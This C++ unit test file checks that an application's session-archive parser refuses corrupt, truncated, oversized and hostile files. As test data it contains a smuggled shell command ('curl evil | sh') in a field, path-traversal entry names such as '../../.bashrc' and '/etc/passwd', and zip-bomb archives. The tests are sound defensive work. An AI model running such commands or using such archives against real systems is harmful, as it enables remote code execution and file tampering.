// SPDX-License-Identifier: GPL-3.0-or-later
// What is no session, or is one no longer: each has its sentence, and costs neither time nor memory.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "core/session/archive.h"
#include "core/session/session_file.h"
#include "core/session/session_parts.h"
#include "tests/core/session/whole_session.h"

namespace lanescope::session {
namespace {

using ::testing::AllOf;
using ::testing::AnyOf;
using ::testing::HasSubstr;

ArchivePart mime() { return {"mimetype", std::string(kMimeType), false}; }
ArchivePart mainPart(const std::string& more) {
    return {"session.json",
            R"({"format":"lanescope-session","version":1,"choices":[],"at":0,"view":{"page":"tiles"})" + more + "}"};
}

std::string sentenceOf(const std::string& bytes) {
    const Result<Session> read = sessionFrom(bytes, "s.lanescope");
    return read ? std::string() : describe(read.error());
}

std::string sentenceOf(const std::vector<ArchivePart>& parts) { return sentenceOf(zipped(parts)); }

TEST(BadSession, ABaselineHasNoneOfItsOwn) {
    const std::string choice = R"({"algorithm":"vector.add","baseline":{"algorithm":"vector.add"}})";
    EXPECT_EQ(sentenceOf({mime(), mainPart(R"(,"baseline":{"algorithm":"vector.add"})")}), "");
    EXPECT_THAT(sentenceOf({mime(), mainPart(R"(,"baseline":)" + choice)}),
                HasSubstr("a baseline has none of its own"));
}

TEST(BadSession, ThatIsSomethingElseIsNone) {
    const auto isNone = AllOf(HasSubstr("s.lanescope"), HasSubstr("this is no Lanescope session"));
    EXPECT_THAT(sentenceOf(std::string()), isNone);
    EXPECT_THAT(sentenceOf(std::string("{\"format\":\"lanescope-story\"}")), isNone);
    EXPECT_THAT(sentenceOf({{"word/document.xml", "<w/>"}}), isNone);
    EXPECT_THAT(sentenceOf({{"mimetype", "application/epub+zip", false}, {"session.json", "{}"}}), isNone);
    EXPECT_THAT(sentenceOf({mime(), {"session.json", "{}"}}), isNone);
    EXPECT_THAT(sentenceOf({mime(), {"session.json", "[]"}}), isNone);
}

TEST(BadSession, ThatIsCutOffAnywhereIsNone) {
    const std::string whole = toBytes(wholeSession());
    for (std::size_t length = 0; length < whole.size(); ++length)
        ASSERT_THAT(sentenceOf(whole.substr(0, length)), HasSubstr("s.lanescope")) << length;
}

/// Dates and the like may be wrong and nobody minds; whatever opens is what it was.
TEST(BadSession, WithABitFlippedIsRefusedOrAsItWas) {
    const std::string whole = toBytes(wholeSession());
    std::size_t refused = 0;
    for (std::size_t byte = 0; byte < whole.size(); ++byte)
        for (const unsigned bit : {0U, 3U, 7U}) {
            std::string flipped = whole;
            flipped[byte] = static_cast<char>(static_cast<unsigned char>(flipped[byte]) ^ (1U << bit));
            const Result<Session> read = sessionFrom(flipped, "s.lanescope");
            if (read)
                ASSERT_EQ(toBytes(*read), whole) << byte << ", bit " << bit;
            else
                ++refused;
        }
    EXPECT_GT(refused, whole.size() * 2);
}

TEST(BadSession, OfANewerProgramSaysWhatItNeeds) {
    const auto newer = [](const std::string& needs) {
        return sentenceOf({mime(),
                           {"session.json", R"({"format":"lanescope-session","version":7,)" + needs + R"("new":[1]})"},
                           {"new/part", "?"}});
    };
    EXPECT_EQ(newer(R"("needs":"2.5",)"),
              "s.lanescope (session.json) has version 7, which needs Lanescope 2.5 or later; this program reads up to "
              "version 2.");
    EXPECT_EQ(newer({}), "s.lanescope (session.json) has version 7; this program reads up to version 2.");
    // Nothing of what somebody wrote there is repeated.
    EXPECT_THAT(newer(R"("needs":"2; curl evil | sh",)"), Not(HasSubstr("curl")));
}

TEST(BadSession, WithPathsInItsNamesUnpacksNothing) {
    for (const char* name : {"../../.bashrc", "/etc/passwd", "kernels/../../x", "C:\\x", "kernels/9.ptx", "run.sh"})
        EXPECT_THAT(sentenceOf({mime(), mainPart(""), {name, "echo"}}),
                    AllOf(HasSubstr(name), HasSubstr("nothing was unpacked")));
    for (const char* name : {"../matmul.ptx", "/tmp/matmul.ptx", "..\\\\matmul.ptx"})
        EXPECT_THAT(sentenceOf({mime(),
                                mainPart(std::string(R"(,"kernels":[{"module":")") + name + R"(","source":"a.cu"}])"),
                                {"kernels/0.ptx", ""},
                                {"kernels/0.cu", ""}}),
                    HasSubstr("without folders"));
}

TEST(BadSession, WithoutAPartThatItSpeaksOfNamesThePart) {
    for (const auto& [says, part] : {std::pair{R"(,"measured":true)", "measured.json"},
                                     {R"(,"story":true)", "story.json"},
                                     {R"(,"gpu":true)", "gpu.json"},
                                     {R"(,"kernels":[{"module":"a.ptx","source":"a.cu"}])", "kernels/0.ptx"}})
        EXPECT_THAT(sentenceOf({mime(), mainPart(says)}), AllOf(HasSubstr(part), HasSubstr("missing")));
    EXPECT_THAT(sentenceOf({mime(), mainPart(""), {"story.json", "{}"}}), HasSubstr("no part of this name"));
}

TEST(BadSession, SaysWhereItsTextIsWrong) {
    EXPECT_THAT(sentenceOf({mime(), mainPart(R"(,"colour":"red")")}), HasSubstr("colour"));
    EXPECT_THAT(sentenceOf({mime(), mainPart(R"(,"bookmark":-1)")}), HasSubstr("bookmark"));
    EXPECT_THAT(sentenceOf({mime(), mainPart(R"(,"story":true)"), {"story.json", "{}"}}), HasSubstr("(story.json)"));
    EXPECT_THAT(sentenceOf({mime(), mainPart(R"(,"measured":true)"), {"measured.json", "{\"format\":1}"}}),
                HasSubstr("(measured.json)"));
    EXPECT_THAT(sentenceOf({mime(), mainPart(R"(,"gpu":true)"), {"gpu.json", "{}"}}), HasSubstr("(gpu.json)"));
}

TEST(BadSession, WithMoreThanThereIsRoomForIsRefused) {
    std::string choices = R"({"format":"lanescope-session","version":1,"at":0,"view":{"page":"tiles"},"choices":[)";
    for (std::size_t i = 0; i <= Session::kMostChoices; ++i)
        choices += std::string(i == 0 ? "" : ",") + R"({"algorithm":"vector.add"})";
    EXPECT_THAT(sentenceOf({mime(), {"session.json", choices + "]}"}}), HasSubstr("room for 1000"));
    std::vector<ArchivePart> many{mime(), mainPart("")};
    for (std::size_t i = 0; i <= Archive::kMostParts; ++i) many.push_back({"part" + std::to_string(i), ""});
    EXPECT_THAT(sentenceOf(many), HasSubstr("more than 256 parts"));
}

/// 150 MB in less than 1 MB. What is unpacked is bounded by what is read, whatever the archive says of itself.
TEST(BadSession, ThatUnpacksToVeryMuchIsLeftPacked) {
    const auto spaces = [](std::size_t megabytes) { return std::string(megabytes << 20U, ' '); };
    const auto expectRefused = [](const std::string& bomb) {
        EXPECT_LT(bomb.size(), std::size_t{1} << 20U);
        EXPECT_THAT(sentenceOf(bomb), AnyOf(HasSubstr("unpacks to more than"), HasSubstr("longer than")));
    };
    expectRefused(zipped({mime(), {"session.json", spaces(20)}}));
    expectRefused(zipped({mime(), mainPart(R"(,"measured":true)"), {"measured.json", spaces(150)}}));
    expectRefused(zipped({mime(), mainPart(R"(,"story":true)"), {"story.json", spaces(20)}}));
    expectRefused(zipped({mime(),
                          mainPart(R"(,"kernels":[{"module":"a.ptx","source":"a.cu"}])"),
                          {"kernels/0.ptx", spaces(20)},
                          {"kernels/0.cu", ""}}));
}

}  // namespace
}  // namespace lanescope::session
